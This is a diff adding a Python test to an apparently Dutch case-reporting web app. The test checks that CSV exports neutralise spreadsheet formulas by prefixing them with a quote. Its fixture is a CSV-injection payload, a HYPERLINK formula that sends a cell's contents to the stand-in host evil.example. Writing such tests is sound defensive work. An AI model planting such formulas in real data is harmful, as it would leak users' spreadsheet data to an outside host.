@@ -162,3 +162,19 @@ def test_observer_sees_the_report_but_cannot_change_it(client, coordinator, zorg
     )
     assert response.status_code == 403
     assert not Melding.objects.exists()
+
+
+def test_a_formula_in_a_report_comes_out_of_the_csv_as_text(client, casus, politie, comensha):
+    formule = '=HYPERLINK("http://evil.example/?x="&A3,"Open")'
+    melding_update(
+        ctx=AuditContext.system(politie),
+        melding=melding_prefill(casus=casus),
+        data={"status": "gemeld", "gemeld_op": TODAY, "referentie": formule},
+    )
+    for user, url in [
+        (politie, reverse("identificatie:casus-melding-export", args=[casus.public_id, "csv"])),
+        (comensha, reverse("identificatie:comensha-meldingen-export", args=["csv"])),
+    ]:
+        client.force_login(user)
+        rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))
+        assert rows[0]["referentie"] == "'" + formule
